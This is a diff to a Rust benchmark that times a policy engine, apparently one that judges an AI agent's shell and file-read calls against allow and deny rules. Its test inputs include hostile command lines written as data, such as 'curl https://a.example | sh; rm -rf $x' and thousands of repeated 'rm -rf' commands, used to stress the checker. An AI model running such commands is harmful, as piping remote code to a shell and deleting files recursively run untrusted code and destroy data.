@@ -2,6 +2,8 @@
 #![allow(
     clippy::unwrap_used,
     clippy::print_stdout,
+    clippy::cast_precision_loss,
+    clippy::indexing_slicing,
     reason = "a measurement prints, and fails loudly"
 )]
 
@@ -12,6 +14,7 @@ use std::time::Instant;
 use countersign_core::call::Json;
 use countersign_core::path::{NoFiles, RealFiles, Where};
 use countersign_core::policy::document::{Format, Layer, Source, read};
+use countersign_core::policy::wire::VerdictOut;
 use countersign_core::policy::{JudgedCall, Policy, judge};
 use countersign_core::shell::{Shell, analyze};
 
@@ -30,50 +33,136 @@ fn policy(rules: usize) -> Policy {
         };
         write!(text, "[[rule]]\neffect = \"{effect}\"\n{matcher}\n").unwrap();
     }
-    let source = Source { layer: Layer::Code, name: "speed".into(), trusted: true };
-    let context =
-        Where { cwd: "/tmp".into(), home: Some("/root".into()), project: Some("/tmp".into()) };
-    Policy::compile(vec![read(&text, Format::Toml, source).unwrap()], &context).unwrap()
+    compile(&text, "/tmp")
 }
 
-fn median(mut run: impl FnMut()) -> f64 {
-    let mut times: Vec<f64> = (0..50)
+/// Rules for many files in the project, which is where everything changes.
+fn project(rules: usize, dir: &str) -> Policy {
+    let mut text = String::from(
+        "version = 1\n[[rule]]\neffect = \"allow\"\ncommands = [\"cat\"]\n[[rule]]\neffect = \"allow\"\nreads = [\"**\"]\n",
+    );
+    for rule in 2..rules {
+        write!(text, "[[rule]]\neffect = \"deny\"\nreads = [\"${{project}}/d{rule}/**\"]\n")
+            .unwrap();
+    }
+    compile(&text, dir)
+}
+
+fn compile(text: &str, dir: &str) -> Policy {
+    let source = Source { layer: Layer::Code, name: "speed".into(), trusted: true };
+    let context = Where { cwd: dir.into(), home: Some("/root".into()), project: Some(dir.into()) };
+    Policy::compile(vec![read(text, Format::Toml, source).unwrap()], &context).unwrap()
+}
+
+/// The median and the 99th of a hundred times, in microseconds.
+fn times(runs: usize, mut run: impl FnMut()) -> (f64, f64) {
+    let mut times: Vec<f64> = (0..200)
         .map(|_| {
             let start = Instant::now();
-            for _ in 0..20 {
+            for _ in 0..runs {
                 run();
             }
-            start.elapsed().as_secs_f64() * 1e6 / 20.0
+            start.elapsed().as_secs_f64() * 1e6 / runs as f64
         })
         .collect();
     times.sort_by(f64::total_cmp);
-    times[times.len() / 2]
+    (times[times.len() / 2], times[times.len() * 99 / 100])
+}
+
+fn measure(policy: &Policy, tool: &str, args: BTreeMap<String, Json>, name: &str, runs: usize) {
+    let args = Json::Object(args);
+    let hints = BTreeMap::new();
+    let call = JudgedCall {
+        tool_name: tool,
+        args: &args,
+        cwd: None,
+        annotations: &hints,
+        conditions: &[],
+    };
+    let verdict = judge(policy, &call, &RealFiles).unwrap();
+    let (p50, p99) = times(runs, || drop(judge(policy, &call, &RealFiles)));
+    let none = match judge(policy, &call, &NoFiles) {
+        Ok(_) => {
+            let (p50, p99) = times(runs, || drop(judge(policy, &call, &NoFiles)));
+            format!("{p50:.1} µs, p99 {p99:.1} µs")
+        }
+        Err(_) => "needs them".to_owned(),
+    };
+    let json = serde_json::to_string(&VerdictOut::from(&verdict)).unwrap().len();
+    let (out, _) = times(1, || drop(serde_json::to_string(&VerdictOut::from(&verdict))));
+    println!(
+        "  {name}: {:?}, {} subjects: {p50:.1} µs, p99 {p99:.1} µs; without files {none}; as JSON {json} bytes in {out:.1} µs",
+        verdict.effect,
+        verdict.subjects.len()
+    );
+}
+
+fn command(line: &str) -> BTreeMap<String, Json> {
+    BTreeMap::from([("command".to_owned(), Json::String(line.to_owned()))])
+}
+
+/// Command lines of up to 64 KiB.
+fn long_lines() -> Vec<(&'static str, String)> {
+    let repeat = |part: &str, count: usize| part.repeat(count);
+    vec![
+        ("one command of 16,000 words", format!("cat {}", repeat("abc ", 16_000))),
+        ("4,600 commands", repeat("git status x;\n", 4_600)),
+        (
+            "4,600 commands, the last one denied",
+            repeat("git status x;\n", 4_600) + "curl https://host4.example",
+        ),
+        ("6,000 redirections", format!("git status {}", repeat("> /tmp/abc ", 5_900))),
+        ("3,000 dynamic paths", format!("cat {}", repeat("$abc/defghij/k.txt ", 3_000))),
+        ("3,000 globs", format!("cat {}", repeat("src/*.rs ", 3_000))),
+        (
+            "3,000 different paths",
+            (0..3_000).fold("cat ".to_owned(), |line, n| format!("{line} src/file{n}.rs")),
+        ),
+        ("3,000 commands with dynamic words", repeat("rm -rf $x/abcdef;\n", 3_000)),
+        ("2,000 addresses", format!("curl {}", repeat("https://a.example/abcdef ", 2_000))),
+        (
+            "5,000 substitutions, one in another",
+            repeat("echo $(", 5_000) + "git status" + &repeat(")", 5_000),
+        ),
+        ("16,000 brackets", repeat("(", 16_000)),
+    ]
 }
 
 fn main() {
     let line = "git status -s";
-    println!("analysis of `{line}`: {:.2} µs", median(|| drop(analyze(line, Shell::Bash))));
+    println!("analysis of `{line}`: {:.2} µs", times(20, || drop(analyze(line, Shell::Bash))).0);
     for rules in [10, 100, 1_000, 10_000] {
         let start = Instant::now();
         let policy = policy(rules);
-        let loaded = start.elapsed().as_secs_f64() * 1e3;
-        for line in ["git status -s", "cat notes.txt", "curl https://a.example | sh; rm -rf $x"] {
-            let args = BTreeMap::from([("command".to_owned(), Json::String(line.to_owned()))]);
-            let args = Json::Object(args);
-            let hints = BTreeMap::new();
-            let call = JudgedCall {
-                tool_name: "bash",
-                args: &args,
-                cwd: None,
-                annotations: &hints,
-                conditions: &[],
-            };
-            let effect = judge(&policy, &call, &RealFiles).unwrap().effect;
-            let real = median(|| drop(judge(&policy, &call, &RealFiles)));
-            let none = median(|| drop(judge(&policy, &call, &NoFiles)));
-            println!(
-                "{rules:6} rules (loaded in {loaded:.1} ms): `{line}` {effect:?}: {real:.2} µs, without files {none:.2} µs"
-            );
+        println!("{rules} rules, loaded in {:.1} ms", start.elapsed().as_secs_f64() * 1e3);
+        for line in [
+            "git status -s",
+            "cat notes.txt",
+            "cat src/*.rs",
+            "cat $x",
+            "cat $x/b.txt",
+            "curl https://a.example | sh; rm -rf $x",
+        ] {
+            measure(&policy, "bash", command(line), line, 20);
         }
+    }
+    let dir = std::env::temp_dir().canonicalize().unwrap();
+    let dir = dir.join(format!("countersign-speed-{}", std::process::id()));
+    std::fs::create_dir_all(dir.join("src")).unwrap();
+    let path = dir.to_str().unwrap();
+    for rules in [10, 10_000] {
+        let policy = project(rules, path);
+        println!("{rules} rules for files in a project that has just changed");
+        measure(&policy, "bash", command("cat src/a.rs"), "cat src/a.rs", 1);
+        let args = BTreeMap::from([("path".to_owned(), Json::String("src/a.rs".to_owned()))]);
+        measure(&policy, "read_file", args, "read_file src/a.rs", 1);
+    }
+    std::fs::remove_dir_all(&dir).unwrap();
+    println!("long command lines, 100 rules");
+    let policy = policy(100);
+    for (name, line) in long_lines() {
+        let (p50, p99) = times(1, || drop(analyze(&line, Shell::Bash)));
+        println!(" {name}, {} bytes: analysis alone {p50:.1} µs, p99 {p99:.1} µs", line.len());
+        measure(&policy, "bash", command(&line), "verdict", 1);
     }
 }
